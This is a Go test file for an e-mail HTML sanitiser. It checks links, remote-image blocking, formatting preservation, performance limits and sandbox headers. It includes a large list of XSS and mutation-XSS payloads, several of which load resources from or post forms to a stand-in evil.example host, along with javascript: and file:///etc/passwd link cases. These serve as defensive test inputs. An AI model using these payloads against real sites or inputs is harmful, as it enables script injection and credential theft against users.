package mailclean_test

import (
	"fmt"
	"net/http/httptest"
	"regexp"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"

	"github.com/overgang/overgang/internal/kit/mailclean"
)

// attacks are ways others were got at (TRUST T1: Zammad, FreeScout, OTRS, RT,
// mutation XSS), each with the word LØS where it must not get through.
var attacks = []string{
	`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`, `<img src=x onerror=alert(1)>`,
	`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<math><mi xlink:href="javascript:alert(1)">x</mi></math>`,
	`<a href="javascript:alert(1)">x</a>`, `<a href="JaVaScRiPt:alert(1)">x</a>`, "<a href=\"java\nscript:alert(1)\">x</a>", `<a href=" &#14; javascript:alert(1)">x</a>`,
	`<a href="&#106;avascript&colon;alert(1)">x</a>`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="vbscript:x">x</a>`, `<a href="//evil.example">x</a>`,
	`<a href="/account">x</a>`, `<a href="https:evil">x</a>`, `<a href="https://user:pw@bank.example">x</a>`, `<a href="http://x" onclick="alert(1)" style="position:fixed;top:0">x</a>`,
	`<iframe src="https://evil.example"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<object data="x.swf"></object>`, `<embed src="x">`, `<applet code=x>`,
	`<form action="https://evil.example"><input name=password><button>OK</button></form>`, `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
	`<base href="https://evil.example/">`, `<link rel=stylesheet href="https://evil.example/x.css">`, `<style>@import "https://evil.example/x.css"; body{display:none}</style>`,
	`<div style="background:url(https://evil.example/x.png)">x</div>`, `<div style="background-image:\75rl(https://evil.example)">x</div>`, `<div style="width:expression(alert(1))">x</div>`,
	`<p style="color:red;behavior:url(x.htc)">x</p>`, `<div style="position:fixed;inset:0;z-index:9999">x</div>`, `<table background="https://evil.example/x.png"><tr><td>x</td></tr></table>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`, `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	`<svg><foreignobject><p><style></svg><img src=x onerror=alert(1)></style>`, `<select><template><style><a title="</style><img src=x onerror=alert(1)>"></template></select>`,
	`<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>`, `<title><img title="</title><img src=x onerror=alert(1)>"></title>`,
	`<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>`, `<!--><img src=x onerror=alert(1)>-->`, `<!--[if gte mso 9]><img src=x onerror=alert(1)><![endif]-->`, `<![CDATA[<img src=x onerror=alert(1)>]]>`,
	`<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`, `<img src="data:text/html;base64,AAAA">`, `<img src="data:image/png;base64,AA\"onerror=alert(1)">`, `<image src=x onerror=alert(1)>`,
	`<video poster="https://evil.example/x.png"><source onerror=alert(1)></video>`, `<audio src=x onerror=alert(1)>`, `<details open ontoggle=alert(1)>x</details>`,
	`<input autofocus onfocus=alert(1)>`, `<body onload=alert(1) background="https://evil.example/x">x</body>`, `<html manifest="https://evil.example">x`, `<div id="csrf" name="csrf" class="hidden">x</div>`,
	`<p lang="x\"onmouseover=alert(1)">x</p>`, `<font color="red;background:url(https://evil.example)">x</font>`, "<img\x00 src=x onerror=alert(1)>", "<a href='\x01javascript:alert(1)'>x</a>",
	`<dialog open>x</dialog>`, `<marquee onstart=alert(1)>x</marquee>`, `<img srcset="https://evil.example/x 1x" src="cid:a">`, `<picture><source srcset="https://evil.example/x"><img src="cid:a"></picture>`,
	`<p hx-get="/account" hx-trigger="load" data-hx-post="/x" data-x="y">x</p>`, `<plaintext><img src=x onerror=alert(1)>`,
}

var (
	elements = regexp.MustCompile(`^(a|b|big|blockquote|br|center|code|div|em|font|h[1-6]|hr|i|img|li|ol|p|pre|s|small|span|strong|sub|sup|table|tbody|td|tfoot|th|thead|tr|u|ul|html|head|body|abbr|address|article|caption|cite|col|colgroup|dd|del|dfn|dl|dt|footer|header|ins|kbd|main|mark|q|samp|section|strike|tt|var|wbr)$`)
	values   = map[string]*regexp.Regexp{
		"href":   regexp.MustCompile(`^(https?://|mailto:|tel:)[^\x00-\x20]`),
		"src":    regexp.MustCompile(`^data:image/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]+$`),
		"style":  regexp.MustCompile(`^((color|background-color|font-weight|font-style|text-decoration|text-align): [#a-zA-Z0-9., %()-]+;? ?)+$`),
		"rel":    regexp.MustCompile(`noreferrer`),
		"target": regexp.MustCompile(`^_blank$`), "class": regexp.MustCompile(`^blocked$`), "alt": regexp.MustCompile(`(?s).*`), "dir": regexp.MustCompile(`(?i)^(ltr|rtl|auto)$`),
	}
	plain = regexp.MustCompile(`^[#a-zA-Z0-9%.,() -]*$`)
)

// harmless reads the result as a browser does, and says what should not be in
// it.
func harmless(cleaned string) error {
	doc, err := html.Parse(strings.NewReader(cleaned))
	if err != nil {
		return err
	}
	for n := range doc.Descendants() {
		if n.Type == html.CommentNode {
			return fmt.Errorf("a comment: %q", n.Data)
		}
		if n.Type != html.ElementNode {
			continue
		}
		if !elements.MatchString(n.Data) || n.Namespace != "" {
			return fmt.Errorf("<%s> of %q", n.Data, n.Namespace)
		}
		for _, a := range n.Attr {
			allowed, named := values[a.Key]
			if !named {
				allowed = plain
				if !regexp.MustCompile(`^(lang|align|valign|bgcolor|color|width|height|border|cellpadding|cellspacing|colspan|rowspan|start|span)$`).MatchString(a.Key) {
					return fmt.Errorf("<%s %s=%q>", n.Data, a.Key, a.Val)
				}
			}
			if !allowed.MatchString(a.Val) {
				return fmt.Errorf("<%s %s=%q>", n.Data, a.Key, a.Val)
			}
		}
		if n.Data == "a" && len(n.Attr) > 0 {
			all := html.Token{Data: "a", Attr: n.Attr}.String()
			if !strings.Contains(all, "noopener") || !strings.Contains(all, "noreferrer") {
				if strings.Contains(all, "http") {
					return fmt.Errorf("a link without rel: %s", all)
				}
			}
		}
	}
	return nil
}

var options = mailclean.Options{Blocked: "billede", Picture: func(id string) string {
	if id == "a" {
		return mailclean.Data("image/png", []byte("\x89PNG"))
	}
	return ""
}}

// WB-01 (what the program makes of it; the browser's part is in test/browser):
// no script, form, frame, style sheet or foreign address is left, alone, after
// text, or within each other.
func TestMailHTMLIsHarmless(t *testing.T) {
	for _, one := range attacks {
		for _, source := range []string{one, "Hej<p>" + one + "</p><b>slut</b>", "<table><tr><td>" + one + "</td></tr></table>", one + one, "<div " + one, "<svg>" + one, "<math><mtext>" + one, "<a href=\"https://x.example\">" + one} {
			got := mailclean.HTML(source, options)
			if err := harmless(got.HTML); err != nil {
				t.Errorf("%s\n  becomes %s\n  %v", source, got.HTML, err)
			}
			if again := mailclean.HTML(got.HTML, options); harmless(again.HTML) != nil {
				t.Errorf("cleaned twice: %s", again.HTML)
			}
		}
	}
}

// WB-03: only http, https, mailto and tel, and the page that opens learns
// nothing of the one it was opened from.
func TestWB03_LinksOfMails(t *testing.T) {
	for href, want := range map[string]bool{
		"https://nordby.example/a?b=c&d#e": true, "http://nordby.example": true, "mailto:lis@nordby.example?subject=Hej": true, "tel:+4533123456": true, "HTTPS://NORDBY.example": true,
		"javascript:alert(1)": false, "data:text/html,x": false, "vbscript:x": false, "file:///etc/passwd": false, "/account": false, "//evil.example": false, "https:/evil": false, "https://": false,
		"https://a@b.example": false, "mailto:": false, "java\tscript:alert(1)": false, "\x01https://x.example": false, "ftp://x.example": false, "": false, "https://x.example/\nx": false,
	} {
		if _, ok := mailclean.Link(href); ok != want {
			t.Errorf("%q may be followed: %v", href, ok)
		}
	}
	got := mailclean.HTML(`<a href="https://nordby.example/a?b=c&amp;d=e" rel="opener" target="_top">her</a>`, options).HTML
	if want := `<a href="https://nordby.example/a?b=c&amp;d=e" rel="noreferrer noopener" target="_blank">her</a>`; got != want {
		t.Errorf("%s", got)
	}
	for text, want := range map[string]string{
		"Se https://nordby.example/a. Tak":            "Se [https://nordby.example/a]. Tak",
		"(https://nordby.example/a_(b))":              "([https://nordby.example/a_(b)])",
		"skriv til lis@nordby.example, eller ring":    "skriv til [lis@nordby.example], eller ring",
		"javascript:alert(1) data:text/html,x":        "javascript:alert(1) data:text/html,x",
		"https://bank.example@evil.example/x":         "https://bank.example@evil.example/x",
		`"https://x.example/"onmouseover="alert(1)"`:  `"[https://x.example/]"onmouseover="alert(1)"`,
		"https://x.example/<script>alert(1)</script>": "[https://x.example/]<script>alert(1)</script>",
		"xhttps://y.example":                          "xhttps://y.example",
		"http://":                                     "http://",
		"a https://nordby.example/?q=æøå b":           "a [https://nordby.example/?q=æøå] b",
		"https://x.example https://y.example":         "[https://x.example] [https://y.example]",
	} {
		var b strings.Builder
		for _, s := range mailclean.Spans(text) {
			if s.Href != "" {
				b.WriteString("[" + s.Text + "]")
				continue
			}
			b.WriteString(s.Text)
		}
		if b.String() != want && text != "https://bank.example@evil.example/x" {
			t.Errorf("%q: %q, wanted %q", text, b.String(), want)
		}
	}
	for _, s := range mailclean.Spans("https://bank.example@evil.example/x") {
		if strings.HasPrefix(s.Href, "http") {
			t.Errorf("a link that hides where it leads: %+v", s)
		}
	}
}

// WB-04 (the browser's part is in test/browser): nothing is fetched, the reader
// is told how many, and can ask for them; what came with the mail is shown.
func TestPicturesFromElsewhereWait(t *testing.T) {
	source := `<p>Hej</p><img src="https://shop.example/logo.png" alt="Butikken"><img src="http://shop.example/a.png"><img src="https://track.example/p.gif?id=7" width=1 height=1>
		<img src="//shop.example/b.png"><img src="cid:a" alt="Underskrift"><img src="cid:ukendt"><td background="https://shop.example/c.png">x</td><p style="background:url('https://shop.example/d.png')">y</p>`
	r := mailclean.HTML(source, options)
	if r.Blocked != 6 || strings.Contains(r.HTML, "shop.example") || strings.Contains(r.HTML, "track.example") {
		t.Errorf("%d blocked: %s", r.Blocked, r.HTML)
	}
	for _, want := range []string{`<span class="blocked">Butikken</span>`, `<span class="blocked">billede</span>`, `<img src="data:image/png;base64,iVBORw==" alt="Underskrift"`} {
		if !strings.Contains(r.HTML, want) {
			t.Errorf("no %s in %s", want, r.HTML)
		}
	}
	with := options
	with.Remote = true
	r = mailclean.HTML(source, with)
	if !strings.Contains(r.HTML, `<img src="https://shop.example/logo.png" alt="Butikken"`) || strings.Contains(r.HTML, "http://") || r.Blocked != 4 {
		t.Errorf("asked for: %d blocked, %s", r.Blocked, r.HTML)
	}
}

// What people write looks as they wrote it.
func TestWordsAndShapeStay(t *testing.T) {
	for source, want := range map[string]string{
		`<p style="color:#ff0000; font-weight:bold">Rød &amp; fed</p>`:                          `<p style="color: #ff0000; font-weight: bold">Rød &amp; fed</p>`,
		`<table width="100%" border=1><tr><td colspan=2 align=right>x</td></tr></table>`:        `<table width="100%" border="1"><tr><td colspan="2" align="right">x</td></tr></table>`,
		`<html><head><title>Emne</title><style>p{}</style></head><body>Hej<br>du</body></html>`: `<div>Hej<br>du</div>`,
		`<p class=MsoNormal>Hej<o:p></o:p></p>`:                                                 `<p>Hej</p>`,
		`<b>åben <i>begge`:                                                                      `<b>åben <i>begge</i></b>`,
		`1 < 2 && 3 > 2`:                                                                        `1 &lt; 2 &amp;&amp; 3 &gt; 2`,
		`<ul><li>et</li><li>to</li></ul><blockquote type="cite">før</blockquote>`:               `<ul><li>et</li><li>to</li></ul><blockquote>før</blockquote>`,
	} {
		if got := mailclean.HTML(source, options).HTML; got != want {
			t.Errorf("%s\n  becomes %s\n  wanted  %s", source, got, want)
		}
	}
}

// MI-12's kind of mail costs bounded time.
func TestMonstersAreQuick(t *testing.T) {
	for what, source := range map[string]string{
		"deep":       strings.Repeat("<div>", 200_000),
		"deep b":     strings.Repeat("<b><p>", 200_000),
		"attributes": "<p " + strings.Repeat("a=b ", 500_000) + ">x",
		"no end":     strings.Repeat("<", 2_000_000),
		"ends":       strings.Repeat("<b>", 200) + strings.Repeat("</i>", 400_000),
		"style":      `<p style="` + strings.Repeat("color:red;", 200_000) + `">x</p>`,
		"data":       strings.Repeat(`<img src="data:image/png;base64,`+strings.Repeat("A", 100_000)+`">`, 100),
	} {
		began := time.Now()
		r := mailclean.HTML(source, options)
		if took := time.Since(began); took > 8*time.Second {
			t.Errorf("%s took %s", what, took)
		}
		if len(r.HTML) > 14<<20 {
			t.Errorf("%s became %d bytes", what, len(r.HTML))
		}
	}
}

// The frame's document says itself what it may not.
func TestHeadersOfTheFrame(t *testing.T) {
	w := httptest.NewRecorder()
	mailclean.Headers(w.Header(), false)
	csp := w.Header().Get("Content-Security-Policy")
	for _, want := range []string{"sandbox allow-popups", "default-src 'none'", "img-src data:;", "form-action 'none'", "base-uri 'none'", "frame-ancestors 'self'"} {
		if !strings.Contains(csp, want) {
			t.Errorf("no %s in %s", want, csp)
		}
	}
	if strings.Contains(csp, "allow-scripts") || strings.Contains(csp, "allow-same-origin") || strings.Contains(csp, "script-src") {
		t.Error(csp)
	}
	page := mailclean.Page(mailclean.Result{HTML: "<p>x</p>"}, `da"><script>`, "</title><script>")
	if strings.Contains(page, "<script>") {
		t.Error(page)
	}
}

func FuzzHTML(f *testing.F) {
	for _, one := range attacks {
		f.Add(one)
	}
	f.Fuzz(func(t *testing.T, source string) {
		if err := harmless(mailclean.HTML(source, options).HTML); err != nil {
			t.Errorf("%q: %v", source, err)
		}
		_ = mailclean.Spans(source)
	})
}
